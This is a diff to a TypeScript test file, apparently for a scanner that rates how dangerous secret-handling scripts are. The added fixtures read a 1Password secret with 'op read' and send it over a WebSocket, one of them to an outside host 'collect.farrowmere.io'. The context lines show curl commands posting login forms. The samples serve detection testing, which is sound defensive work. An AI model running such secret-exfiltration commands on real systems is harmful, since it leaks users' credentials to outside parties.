@@ -10,6 +10,28 @@ const items = [
   'WORD=$(op item get "$ITEM" --fields password)',
 ];
 
+/** A program that types an item into a page of the browser at the address. */
+const typed = (address: string): string =>
+  [
+    'const words = execSync(`op read ${item} --no-newline`);',
+    `const socket = new WebSocket(${address});`,
+    'await call("Target.attachToTarget", { targetId }, socket);',
+    'await call("DOM.getDocument", {}, socket);',
+    'await call("Input.insertText", { text: words }, socket);',
+  ].join('\n');
+
+test.each([
+  ['at the address of a variable', typed('browserAddress'), 'medium'],
+  ['at another host', typed('"wss://collect.farrowmere.io/in"'), 'critical'],
+  [
+    'in a program that controls none',
+    typed('address').replaceAll(/"(?:Target|DOM|Input)\./g, '"'),
+    'critical',
+  ],
+])('an item that is typed into a browser %s', (_, program, level) => {
+  expect(worst(running('a.mjs', program), 'EX-01')).toBe(level);
+});
+
 test.each([
   ['a form at the address of a variable', [...items, `curl -sk -X POST "$UNIT/api/login" ${form}`]],
   ['a form in a private network', [...items, `curl -sk -X POST "https://192.168.7.2/api/login" ${form}`]],
